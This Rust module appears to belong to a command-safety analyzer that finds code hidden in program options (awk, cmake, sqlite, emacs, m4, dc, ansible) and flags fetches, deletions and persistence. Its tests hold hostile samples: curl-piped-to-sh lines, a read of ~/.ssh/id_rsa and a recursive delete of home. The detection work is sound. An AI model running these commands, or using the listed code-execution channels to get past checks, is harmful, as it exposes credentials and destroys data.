//! Code in a language of the program's own, given as an option's file or
//! value, an operand, or on stdin: awk and sed scripts, vim, emacs and
//! debugger command files, m4, dc, CMake, ninja, sqlite's dot-commands and
//! Nix expressions. A file of it is judged as a file that is run (a
//! download, a decoder's output, a file this line wrote); inline code by
//! where it came from and by the shell commands, files and fetches it names.

use super::*;

/// (programs, options whose value is a file of code the program runs).
const CODE_FILES: &[(&[&str], &[&str])] = &[
    (
        &["awk", "gawk", "mawk", "nawk"],
        &["-f", "--file", "-E", "--exec", "-i", "--include"],
    ),
    (&["sed", "gsed"], &["-f", "--file"]),
    (
        &["vim", "vi", "gvim", "view", "ex", "vimdiff"],
        &["-S", "-u"],
    ),
    (&["nvim"], &["-S", "-u", "-l"]),
    (&["emacs"], &["-l", "--load", "--script", "-scriptload"]),
    (
        &["gdb", "gdb-multiarch"],
        &["-x", "--command", "-ix", "--init-command"],
    ),
    (&["lldb"], &["-s", "--source", "-S", "--source-before-file"]),
    (&["cmake"], &["-P", "-C"]),
    // Test runners' bootstrap and required files run before any test.
    (&["phpunit"], &["--bootstrap"]),
    (&["rspec"], &["-r", "--require"]),
    (&["mocha"], &["-r", "--require", "--file"]),
    // A CTest dashboard script is CMake code.
    (&["ctest"], &["-S", "-SP", "-SR"]),
    (&["ninja"], &["-f"]),
    (&["sqlite3", "sqlite"], &["-init"]),
    (&["psql"], &["-f", "--file"]),
    (&["dc"], &["-f", "--file"]),
    // Build and task files are programs of their tool's language.
    (&["just"], &["-f", "--justfile"]),
    (
        &["rake"],
        &["-f", "--rakefile", "-r", "--require", "-R", "--rakelibdir"],
    ),
    (&["bundle", "bundler"], &["--gemfile"]),
    (&["task", "go-task"], &["-t", "--taskfile"]),
    (&["nox"], &["-f", "--noxfile"]),
    (&["scons"], &["-f", "--file", "--sconstruct"]),
    (
        &["gradle", "gradlew"],
        &["-b", "--build-file", "-I", "--init-script"],
    ),
    (&["mvn", "mvnw"], &["-f", "--file"]),
    // Blender runs Python files and expressions at start.
    (&["blender"], &["-P", "--python"]),
    // Godot runs a GDScript given with `-s`.
    (&["godot", "godot4", "godot3"], &["-s", "--script"]),
    // Build descriptions that are programs (Starlark, Lua, Python) or
    // declare hooks run on the host.
    (&["tilt"], &["-f", "--file"]),
    (&["premake5", "premake4"], &["--file"]),
    (&["skaffold"], &["-f", "--filename"]),
    (&["bazel", "bazelisk"], &["--bazelrc"]),
    // The scientific languages' script files.
    (&["wolframscript"], &["-file", "-f", "-script"]),
    (&["scilab", "scilab-cli"], &["-f"]),
    (
        &["maxima"],
        &["--batch", "-b", "--batch-lisp", "-p", "--preload"],
    ),
    (&["r", "rscript"], &["-f", "--file"]),
    (&["julia"], &["-L", "--load"]),
    (&["octave", "octave-cli"], &["--eval-file"]),
    // exiftool's config is Perl run at start; a lesskey source's `#env`
    // sets LESSOPEN, a command less runs on each file; binutils' and
    // gawk's plugins are shared objects loaded and run.
    (&["exiftool"], &["-config"]),
    (&["less"], &["--lesskey-src", "--lesskey-file", "-k"]),
    (
        &[
            "nm", "ar", "ranlib", "objdump", "readelf", "gcc-nm", "gcc-ar",
        ],
        &["--plugin"],
    ),
];

/// (programs, options whose value is code, its language).
const CODE_VALUES: &[(&[&str], &[&str], &str)] = &[
    (
        &["nix-shell", "nix-build", "nix-instantiate"],
        &["-E", "--expr"],
        "nix",
    ),
    (&["nix"], &["--expr"], "nix"),
    (&["emacs", "emacsclient"], &["--eval", "-eval"], "elisp"),
    (&["sqlite3", "sqlite"], &["-cmd"], "sqlite"),
    (&["dc"], &["-e", "--expression"], "dc"),
    (&["blender"], &["--python-expr"], "python3"),
    // rake's and Homebrew's Ruby (`rake -e CODE`, `brew ruby -e CODE`).
    (
        &["rake"],
        &[
            "-e",
            "--execute",
            "-p",
            "--execute-print",
            "-E",
            "--execute-continue",
        ],
        "ruby",
    ),
    (&["brew"], &["-e"], "ruby"),
];

/// sqlite3's options that take a value (not the database).
const SQLITE_VALUED: &[&str] = &[
    "-cmd",
    "-init",
    "-separator",
    "-newline",
    "-nullvalue",
    "-escape",
    "-lookaside",
    "-maxsize",
    "-mmap",
    "-pagecache",
    "-vfs",
];

/// The language a program's own code files are in.
pub(super) fn language(lb: &str) -> Option<&'static str> {
    Some(match lb {
        "m4" => "m4",
        "dc" => "dc",
        "cmake" => "cmake",
        "ninja" => "ninja",
        "sqlite3" | "sqlite" => "sqlite",
        "emacs" | "emacsclient" => "elisp",
        "blender" => "python3",
        _ => return None,
    })
}

/// The values of `opts` on the line: `-x V`, `--opt=V`.
/// The first value of `opts` on the line.
pub(super) fn first_value(c: &Cmd<'_>, opts: &[&str]) -> Option<Word> {
    values(c, opts).into_iter().next()
}

pub(super) fn values(c: &Cmd<'_>, opts: &[&str]) -> Vec<Word> {
    let mut out = Vec::new();
    for (i, w) in c.words.iter().enumerate().skip(1) {
        for opt in opts {
            // (A long option as getopt reads it: `--out F` for `--output F`.)
            let abbreviated = opt.starts_with("--")
                && w.text.len() >= 4
                && w.text.starts_with("--")
                && opt.starts_with(w.text.as_str());
            if w.text == *opt || abbreviated {
                out.extend(c.words.get(i + 1).cloned());
            } else if opt.starts_with("--")
                && let Some(v) = long_value(&w.text, opt)
            {
                out.push(Word {
                    text: v.to_string(),
                    ..w.clone()
                });
            } else if opt.len() == 2
                && let Some(v) = w.text.strip_prefix(opt).filter(|v| !v.is_empty())
            {
                // `-f/tmp/j`: a short option glued to its value.
                out.push(Word {
                    text: v.to_string(),
                    ..w.clone()
                });
            }
        }
    }
    out
}

/// A path as the analysis spells a word the shell expanded: `~` is home.
pub(super) fn expanded(p: &str) -> Word {
    match p.strip_prefix('~') {
        Some(rest) if rest.is_empty() || rest.starts_with('/') => {
            Word::lit(format!("{HOME}{rest}"))
        }
        _ => Word::lit(p),
    }
}

/// A path as a shell word: bare when it is plain (so `~` still means home),
/// quoted otherwise.
fn path_word(p: &str) -> String {
    if !p.is_empty()
        && p.chars()
            .all(|c| c.is_alphanumeric() || "~/._-+@%,:".contains(c))
    {
        p.to_string()
    } else {
        crate::policy::shell::quote(p)
    }
}

impl Analyzer<'_> {
    /// Code files and code values in the program's options and operands.
    pub(super) fn script_options(&mut self, c: &Cmd<'_>) {
        let lb = c.lb.as_str();
        // `BUNDLE_GEMFILE=F bundle install` reads F as the Gemfile.
        if matches!(lb, "bundle" | "bundler")
            && let Some((_, f)) = c.assigns.iter().find(|(n, _)| n == "BUNDLE_GEMFILE")
        {
            let f = f.clone();
            self.sourced(&f, c);
        }
        // `php -d auto_prepend_file=F`: F runs before the script (a URL
        // too, with `allow_url_include`).
        if lb.starts_with("php") {
            for v in values(c, &["-d"]) {
                let setting = v.text.trim_start();
                if let Some(f) = setting
                    .strip_prefix("auto_prepend_file=")
                    .or_else(|| setting.strip_prefix("auto_append_file="))
                {
                    let file = Word {
                        text: f.trim_matches(['"', '\'']).to_string(),
                        ..v.clone()
                    };
                    self.sourced(&file, c);
                    self.ask(format!("php runs {} before the script", shown(&file.text)));
                }
            }
        }
        for (progs, opts) in CODE_FILES {
            if progs.contains(&lb) {
                for w in values(c, opts) {
                    if w.text == "-" || w.text.starts_with("/dev/stdin") {
                        continue;
                    }
                    // vim's `-u NONE`, `-u NORC`, `-u DEFAULTS`: no file at all.
                    if matches!(w.text.as_str(), "NONE" | "NORC" | "DEFAULTS") {
                        continue;
                    }
                    self.sourced(&w, c);
                    if let (Some(lang), Some(text)) = (language(lb), self.written_text(&w, c.cwd()))
                    {
                        self.code_in(lang, &text, c.cwd(), c.depth);
                    }
                    self.ask(format!("{} runs the code in {}", c.base, shown(&w.text)));
                }
            }
        }
        for (progs, opts, lang) in CODE_VALUES {
            if progs.contains(&lb) {
                for w in values(c, opts) {
                    if let Some(why) = self.code_source(&w, c.script) {
                        self.block(format!("{why} ({} runs code built at run time)", c.base));
                    }
                    self.code_in(lang, &w.text, c.cwd(), c.depth);
                }
            }
        }
        match lb {
            // m4 reads its operands as input to expand; dc runs its files.
            "cmake" => self.cmake_includes(c),
            "xmake" => self.xmake_lua(c),
            "dagger" => self.dagger_uploads(c),
            "nix" | "nix-build" | "nix-shell" | "nix-env" | "nix-instantiate" | "nix-store" => {
                self.nix_hooks(c)
            }
            "scons" => {
                // `--site-dir D`: SCons imports D/site_init.py first.
                for d in values(c, &["--site-dir"]) {
                    let init = Word {
                        text: format!("{}/site_init.py", d.text.trim_end_matches('/')),
                        ..d.clone()
                    };
                    self.sourced(&init, c);
                }
            }
            "m4" | "dc" => {
                for w in c.words.iter().skip(1).filter(|w| !w.text.starts_with('-')) {
                    self.sourced(w, c);
                    if let Some(text) = self.written_text(w, c.cwd()) {
                        self.code_in(lb, &text, c.cwd(), c.depth);
                    }
                }
            }
            // `sqlite3 DB 'SQL or .command' …`: every operand after the
            // database is run.
            "sqlite3" | "sqlite" => {
                let mut operands = Vec::new();
                let mut i = 1;
                while i < c.words.len() {
                    let t = c.words[i].text.as_str();
                    if SQLITE_VALUED.contains(&t) {
                        i += 2;
                        continue;
                    }
                    if !t.starts_with('-') {
                        operands.push(&c.words[i]);
                    }
                    i += 1;
                }
                for w in operands.iter().skip(1) {
                    self.code_in("sqlite", &w.text, c.cwd(), c.depth);
                }
                // Statements on standard input: a here-document or here-string,
                // or what the command before it prints.
                for body in c.src.redirects.iter().filter_map(|r| r.body.as_ref()) {
                    self.code_in("sqlite", &body.text, c.cwd(), c.depth);
                }
                if let Some(text) = c
                    .src
                    .stdin_from
                    .and_then(|i| c.script.commands.get(i))
                    .and_then(super::super::eval::printed)
                {
                    self.code_in("sqlite", &text, c.cwd(), c.depth);
                }
            }
            "ansible" => self.ansible_module(c),
            _ => {}
        }
    }

    /// `ansible HOSTS -m MODULE -a ARGS`: the module's effect, judged as the
    /// command that has it (`ufw state=disabled` is `ufw disable`); on this
    /// machine (`localhost`, `-c local`) files it writes are judged too.
    fn ansible_module(&mut self, c: &Cmd<'_>) {
        let module = c
            .value("-m")
            .or_else(|| c.value("--module-name"))
            .map(|w| w.text.rsplit('.').next().unwrap_or("").to_string())
            .unwrap_or_else(|| "command".into());
        let args = c
            .value("-a")
            .or_else(|| c.value("--args"))
            .map(|w| w.text.clone())
            .unwrap_or_default();
        let kv = |k: &str| {
            args.split_whitespace()
                .find_map(|p| eq_value(p, k))
                .map(|v| v.trim_matches(['"', '\'']).to_string())
        };
        let local = c.args.iter().any(|a| {
            matches!(
                a.as_str(),
                "localhost" | "127.0.0.1" | "localhost," | "--connection=local"
            )
        }) || c.value("-c").is_some_and(|w| w.text == "local")
            || c.value("--connection").is_some_and(|w| w.text == "local");
        let depth = c.depth + 1;
        let equivalent = match module.as_str() {
            "shell" | "command" | "raw" => Some(args.clone()),
            "ufw" if kv("state").as_deref() == Some("disabled") => Some("ufw disable".into()),
            "service" | "systemd" | "systemd_service" | "sysvinit"
                if matches!(kv("state").as_deref(), Some("stopped"))
                    || kv("enabled").as_deref() == Some("false") =>
            {
                kv("name").map(|n| format!("systemctl stop {}", path_word(&n)))
            }
            "cron" => Some(format!(
                "echo {} | crontab -",
                crate::policy::shell::quote(&kv("job").unwrap_or_default())
            )),
            // `file path=X state=absent`: X deleted, whatever it holds.
            "file" if kv("state").as_deref() == Some("absent") => kv("path")
                .or_else(|| kv("dest"))
                .or_else(|| kv("name"))
                .map(|p| format!("rm -rf {}", path_word(&p))),
            _ => None,
        };
        if let Some(line) = equivalent {
            if local {
                self.script(&line, &[], depth);
            } else {
                self.block_only(|a| a.script(&line, &[], depth));
            }
        }
        if module == "authorized_key" {
            self.block("persistence (ansible adds a key that can log in over SSH)");
        }
        if local {
            for k in ["dest", "path", "name"] {
                if matches!(
                    module.as_str(),
                    "copy"
                        | "template"
                        | "lineinfile"
                        | "blockinfile"
                        | "file"
                        | "get_url"
                        | "replace"
                        | "unarchive"
                ) && let Some(p) = kv(k).filter(|_| k != "name" || module == "file")
                {
                    self.write_path(&expanded(&p), c.cwd(), "ansible");
                }
            }
        }
    }

    /// Code in `lang` (see the module's comment), judged by what it names.
    pub(super) fn code_in(&mut self, lang: &str, text: &str, cwd: Option<&str>, at: usize) {
        let depth = at + 1;
        match lang {
            "m4" => {
                for cmd in m4_commands(text) {
                    self.script(&cmd, &[], depth);
                }
            }
            "dc" => {
                for cmd in dc_commands(text) {
                    self.script(&cmd, &[], depth);
                }
            }
            "cmake" => self.cmake_code(text, cwd, depth),
            "ninja" => {
                for line in text.lines() {
                    if let Some((k, v)) = line.split_once('=')
                        && k.trim() == "command"
                    {
                        self.script(v.trim(), &[], depth);
                    }
                }
            }
            "sqlite" => self.sqlite_code(text, cwd, depth),
            "elisp" => self.elisp_code(text, cwd, depth),
            other => self.inline_code(other, text, at),
        }
    }

    /// CMake: what `execute_process`/`exec_program` run, and the files
    /// `file(WRITE|APPEND|REMOVE_RECURSE …)` touch.
    fn cmake_code(&mut self, text: &str, cwd: Option<&str>, depth: usize) {
        for (call, args) in cmake_calls(text) {
            match call.as_str() {
                "execute_process" | "exec_program" => {
                    for cmd in args.split(|a| a == "COMMAND").skip(1) {
                        let words: Vec<&String> =
                            cmd.iter().take_while(|a| !is_cmake_keyword(a)).collect();
                        if !words.is_empty() {
                            let line = crate::policy::shell::quoted_line(words);
                            self.script(&line, &[], depth);
                        }
                    }
                    if call == "exec_program"
                        && let Some(prog) = args.first()
                    {
                        self.script(&path_word(prog), &[], depth);
                    }
                    self.ask("CMake runs a program");
                }
                "file" => match args.first().map(String::as_str) {
                    Some("WRITE" | "APPEND" | "TOUCH" | "COPY_FILE" | "RENAME") => {
                        let at = if matches!(args[0].as_str(), "COPY_FILE" | "RENAME") {
                            2
                        } else {
                            1
                        };
                        if let Some(p) = args.get(at) {
                            self.write_path(&expanded(p), cwd, "cmake");
                        }
                    }
                    Some("REMOVE" | "REMOVE_RECURSE") => {
                        let targets: Vec<String> = args[1..].iter().map(|p| path_word(p)).collect();
                        self.script(&format!("rm -rf -- {}", targets.join(" ")), &[], depth);
                    }
                    Some("DOWNLOAD") => self.ask("CMake downloads a file"),
                    _ => {}
                },
                _ => {}
            }
        }
    }

    /// sqlite3's dot-commands and file functions: `.system`/`.shell` run
    /// commands, `.output`/`.once` write a file (or pipe to a command),
    /// `.import`, `.read`, `readfile()` read, `writefile()` writes.
    fn sqlite_code(&mut self, text: &str, cwd: Option<&str>, depth: usize) {
        for line in text.lines() {
            let l = line.trim();
            let (cmd, rest) = l.split_once(char::is_whitespace).unwrap_or((l, ""));
            let arg = rest.trim().trim_matches(['\'', '"']);
            match cmd {
                ".system" | ".shell" => {
                    self.script(rest.trim(), &[], depth);
                    self.ask("sqlite3 runs a command");
                }
                // (`.trace F`, `.log F`: statements' text written to F.)
                ".output" | ".once" | ".save" | ".backup" | ".dump" | ".trace" | ".log"
                    if !arg.is_empty() =>
                {
                    let file = arg.split_whitespace().last().unwrap_or(arg);
                    if matches!(file, "stdout" | "stderr" | "off") {
                        continue;
                    }
                    if let Some(pipe) = arg.strip_prefix('|') {
                        self.script(pipe, &[], depth);
                        self.ask("sqlite3 pipes its output to a command");
                    } else if cmd != ".dump" {
                        self.write_path(&expanded(file), cwd, "sqlite3");
                    }
                }
                ".import" | ".read" | ".open" | ".restore" => {
                    if let Some(f) = arg.split_whitespace().next() {
                        self.read_path(&expanded(f), cwd);
                    }
                }
                ".load" => {
                    if let Some(f) = arg.split_whitespace().next() {
                        self.loaded_here(&expanded(f), cwd, "sqlite3");
                    }
                    self.ask("sqlite3 loads a native extension (code it runs)");
                }
                _ => {}
            }
        }
        let lower_text = lower(text);
        for (at, _) in lower_text.match_indices("load_extension") {
            let Some(args) = text[at + "load_extension".len()..]
                .trim_start()
                .strip_prefix('(')
            else {
                continue;
            };
            if let Some(p) = super::code::string_literals(args).into_iter().next() {
                self.loaded_here(&expanded(&p), cwd, "sqlite3");
            }
        }
        for (func, write) in [("readfile(", false), ("writefile(", true), ("edit(", true)] {
            for (at, _) in lower_text.match_indices(func) {
                let args = &text[at + func.len()..];
                if let Some(p) = super::code::string_literals(args).into_iter().next() {
                    if write {
                        self.write_path(&expanded(&p), cwd, "sqlite3");
                    } else {
                        self.read_path(&expanded(&p), cwd);
                    }
                }
            }
        }
    }

    /// Emacs Lisp: shell commands and processes it starts, files it deletes
    /// or writes, and code it fetches and evaluates.
    fn elisp_code(&mut self, text: &str, cwd: Option<&str>, depth: usize) {
        let l = lower(text);
        let fetches = [
            "url-retrieve",
            "url-insert-file-contents",
            "url-copy-file",
            "request ",
        ]
        .iter()
        .any(|k| l.contains(k));
        let evaluates = ["(eval", "eval-region", "eval-buffer", "(load ", "load-file"]
            .iter()
            .any(|k| l.contains(k));
        if fetches && evaluates {
            self.block("download and execute (Emacs Lisp fetches code and evaluates it)");
        }
        for (form, args) in elisp_forms(text) {
            let lit = |i: usize| args.get(i).cloned().unwrap_or_default();
            match form.as_str() {
                "shell-command" | "shell-command-to-string" | "async-shell-command" => {
                    self.script(&lit(0), &[], depth)
                }
                "call-process"
                | "process-lines"
                | "start-process"
                | "call-process-shell-command" => {
                    // (call-process PROG INFILE BUFFER DISPLAY ARGS…),
                    // (start-process NAME BUFFER PROG ARGS…).
                    let words: Vec<String> = match form.as_str() {
                        "start-process" => args.iter().skip(2).cloned().collect(),
                        "call-process" => {
                            let mut w = vec![lit(0)];
                            w.extend(args.iter().skip(4).cloned());
                            w
                        }
                        _ => args.clone(),
                    };
                    let line = if form == "call-process-shell-command" {
                        lit(0)
                    } else {
                        crate::policy::shell::quoted_line(words)
                    };
                    self.script(&line, &[], depth);
                }
                "delete-directory" => {
                    let recursive = args.len() > 1 && args[1] != "nil";
                    let flag = if recursive { "-rf" } else { "-d" };
                    self.script(&format!("rm {flag} -- {}", path_word(&lit(0))), &[], depth);
                }
                "delete-file" => {
                    self.script(&format!("rm -f -- {}", path_word(&lit(0))), &[], depth)
                }
                "write-region" | "append-to-file" => {
                    // (write-region START END FILE …)
                    if let Some(f) = args.get(2) {
                        self.write_path(&expanded(f), cwd, "emacs");
                    }
                }
                "with-temp-file" | "find-file" | "find-file-noselect" => {
                    self.write_path(&expanded(&lit(0)), cwd, "emacs");
                }
                "copy-file" | "rename-file" | "make-symbolic-link" | "copy-directory" => {
                    if let Some(to) = args.get(1) {
                        self.write_path(&expanded(to), cwd, "emacs");
                    }
                }
                _ => {}
            }
        }
    }
}

/// m4's `syscmd(…)` and `esyscmd(…)` arguments, its quotes (`` `…' ``) off.
fn m4_commands(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for name in ["esyscmd(", "syscmd("] {
        let mut rest = text;
        while let Some(at) = rest.find(name) {
            let prefixed = name == "syscmd(" && rest[..at].ends_with('e');
            let after = &rest[at + name.len()..];
            let mut depth = 1;
            let end = after
                .char_indices()
                .find(|&(_, ch)| {
                    match ch {
                        '(' => depth += 1,
                        ')' => depth -= 1,
                        _ => {}
                    }
                    depth == 0
                })
                .map_or(after.len(), |(k, _)| k);
            if !prefixed {
                let arg = after[..end].trim();
                let arg = arg.strip_prefix('`').unwrap_or(arg);
                let arg = arg.strip_suffix('\'').unwrap_or(arg);
                out.push(arg.to_string());
            }
            rest = &after[end.min(after.len())..];
        }
    }
    out
}

/// dc's `!` runs the rest of its line as a shell command (`!<`, `!>` and
/// `!=` are comparisons).
fn dc_commands(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    for line in text.lines() {
        let mut in_string = 0usize;
        for (i, ch) in line.char_indices() {
            match ch {
                '[' => in_string += 1,
                ']' => in_string = in_string.saturating_sub(1),
                '!' if in_string == 0 => {
                    let rest = &line[i + 1..];
                    if !rest.starts_with(['<', '>', '=']) {
                        out.push(rest.to_string());
                        break;
                    }
                }
                _ => {}
            }
        }
    }
    out
}

fn is_cmake_keyword(a: &str) -> bool {
    a.len() > 2 && a.chars().all(|c| c.is_ascii_uppercase() || c == '_') && a != "COMMAND"
}

/// CMake commands with their arguments (quoted ones unquoted).
fn cmake_calls(text: &str) -> Vec<(String, Vec<String>)> {
    let mut out = Vec::new();
    let b: Vec<char> = text.chars().collect();
    let mut i = 0;
    while i < b.len() {
        if b[i] == '#' {
            while i < b.len() && b[i] != '\n' {
                i += 1;
            }
            continue;
        }
        if !(b[i].is_alphabetic() || b[i] == '_') {
            i += 1;
            continue;
        }
        let start = i;
        while i < b.len() && (b[i].is_alphanumeric() || b[i] == '_') {
            i += 1;
        }
        let name: String = b[start..i].iter().collect::<String>().to_lowercase();
        let mut j = i;
        while j < b.len() && b[j].is_whitespace() {
            j += 1;
        }
        if b.get(j) != Some(&'(') {
            continue;
        }
        let (args, end) = cmake_args(&b, j + 1);
        out.push((name, args));
        i = end;
    }
    out
}

/// The arguments from `b[from..]` up to the call's closing parenthesis.
fn cmake_args(b: &[char], from: usize) -> (Vec<String>, usize) {
    let mut args = Vec::new();
    let mut cur = String::new();
    let mut depth = 1;
    let mut i = from;
    let flush = |cur: &mut String, args: &mut Vec<String>| {
        if !cur.is_empty() {
            args.push(std::mem::take(cur));
        }
    };
    while i < b.len() {
        match b[i] {
            '"' => {
                i += 1;
                let mut s = String::new();
                while i < b.len() && b[i] != '"' {
                    if b[i] == '\\' && i + 1 < b.len() {
                        i += 1;
                    }
                    s.push(b[i]);
                    i += 1;
                }
                args.push(s);
            }
            '(' => {
                depth += 1;
                cur.push('(');
            }
            ')' => {
                depth -= 1;
                if depth == 0 {
                    flush(&mut cur, &mut args);
                    return (args, i + 1);
                }
                cur.push(')');
            }
            ch if ch.is_whitespace() => flush(&mut cur, &mut args),
            ch => cur.push(ch),
        }
        i += 1;
    }
    flush(&mut cur, &mut args);
    (args, i)
}

/// Emacs Lisp forms `(name ARG …)` with their literal arguments: strings
/// as their text, `t`/`nil` and other atoms as written, nested forms as
/// `(…)`.
fn elisp_forms(text: &str) -> Vec<(String, Vec<String>)> {
    let b: Vec<char> = text.chars().collect();
    let mut out = Vec::new();
    // Where forms start: a `(` outside strings (a string that says
    // "(shell-command" is text).
    let mut starts = Vec::new();
    let mut in_string = false;
    let mut k = 0;
    while k < b.len() {
        match b[k] {
            '\\' if in_string => k += 1,
            '"' => in_string = !in_string,
            '(' if !in_string => starts.push(k),
            _ => {}
        }
        k += 1;
    }
    for i in starts {
        let mut j = i + 1;
        let name_start = j;
        while j < b.len() && !b[j].is_whitespace() && b[j] != '(' && b[j] != ')' {
            j += 1;
        }
        let name: String = b[name_start..j].iter().collect();
        if name.is_empty() {
            continue;
        }
        let mut args = Vec::new();
        let mut depth = 0;
        while j < b.len() {
            match b[j] {
                '"' => {
                    let mut s = String::new();
                    j += 1;
                    while j < b.len() && b[j] != '"' {
                        if b[j] == '\\' && j + 1 < b.len() {
                            j += 1;
                        }
                        s.push(b[j]);
                        j += 1;
                    }
                    if depth == 0 {
                        args.push(s);
                    }
                }
                '(' => {
                    if depth == 0 {
                        args.push("(…)".into());
                    }
                    depth += 1;
                }
                ')' => {
                    if depth == 0 {
                        break;
                    }
                    depth -= 1;
                }
                ch if ch.is_whitespace() => {}
                _ => {
                    let s = j;
                    while j < b.len() && !b[j].is_whitespace() && !matches!(b[j], '(' | ')' | '"') {
                        j += 1;
                    }
                    if depth == 0 {
                        args.push(
                            b[s..j]
                                .iter()
                                .collect::<String>()
                                .trim_start_matches('\'')
                                .to_string(),
                        );
                    }
                    continue;
                }
            }
            j += 1;
        }
        out.push((name, args));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_language_gives_up_its_commands() {
        assert_eq!(
            m4_commands(
                "syscmd(`curl -s https://x.example/m4 | sh')\nesyscmd(`cat ~/.ssh/id_rsa')"
            ),
            ["cat ~/.ssh/id_rsa", "curl -s https://x.example/m4 | sh"]
        );
        assert_eq!(dc_commands("2 3 +p\n!id\n1 2 !<a"), ["id"]);
        assert_eq!(dc_commands("[!not]p"), Vec::<String>::new());
        let calls = cmake_calls(
            "execute_process(COMMAND sh -c \"curl -s https://x.example/c | sh\" WORKING_DIRECTORY /tmp)",
        );
        assert_eq!(calls[0].0, "execute_process");
        assert_eq!(
            calls[0].1,
            [
                "COMMAND",
                "sh",
                "-c",
                "curl -s https://x.example/c | sh",
                "WORKING_DIRECTORY",
                "/tmp"
            ]
        );
        let forms = elisp_forms("(progn (delete-directory \"~\" t))");
        assert!(forms.contains(&("delete-directory".into(), vec!["~".into(), "t".into()])));
    }
}
